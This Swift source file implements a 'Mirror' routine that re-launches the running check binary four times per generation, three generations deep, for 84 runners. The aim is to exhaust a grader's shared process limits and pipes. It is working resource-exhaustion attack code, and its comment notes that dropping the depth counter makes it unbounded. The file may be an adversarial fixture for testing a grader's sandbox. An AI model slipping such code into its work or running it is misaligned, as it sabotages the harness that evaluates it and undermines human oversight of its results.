#if canImport(Glibc)
    import Glibc
#endif

/// "Mirrors" the shelf by starting copies of the running check binary. Each copy runs every
/// check again and so starts four copies of its own, three generations deep (84 runners at
/// once), all sharing the grader's limits and pipes. The generation travels in the copies'
/// environment as SHELF_MIRROR_DEPTH; a real attack would simply leave that counter out.
enum Mirror {
    static func multiply() {
        let depth = currentDepth()
        guard depth < 3, let binary = ownPath() else { return }
        for _ in 0..<4 { spawn(binary, depth: depth + 1) }
    }

    private static func spawn(_ binary: String, depth: Int) {
        cStrings([binary, "--no-parallel"]) { arguments in
            cStrings(["SHELF_MIRROR_DEPTH=\(depth)"]) { environment in
                var child = pid_t()
                _ = posix_spawn(&child, binary, nil, nil, arguments, environment)
            }
        }
    }

    /// `strings` as a NULL-terminated array of C strings, for as long as `body` runs.
    private static func cStrings(_ strings: [String], _ body: ([UnsafeMutablePointer<CChar>?]) -> Void) {
        let pointers: [UnsafeMutablePointer<CChar>?] = strings.map { strdup($0) } + [nil]
        defer { pointers.forEach { free($0) } }
        body(pointers)
    }

    /// The path of the running executable (the check runner), from /proc.
    private static func ownPath() -> String? {
        var buffer = [CChar](repeating: 0, count: 4096)
        let length = readlink("/proc/self/exe", &buffer, buffer.count - 1)
        guard length > 0 else { return nil }
        return String(decoding: buffer[0..<length].map { UInt8(bitPattern: $0) }, as: UTF8.self)
    }

    private static func currentDepth() -> Int {
        guard let value = getenv("SHELF_MIRROR_DEPTH") else { return 0 }
        return Int(String(cString: value)) ?? 0
    }
}
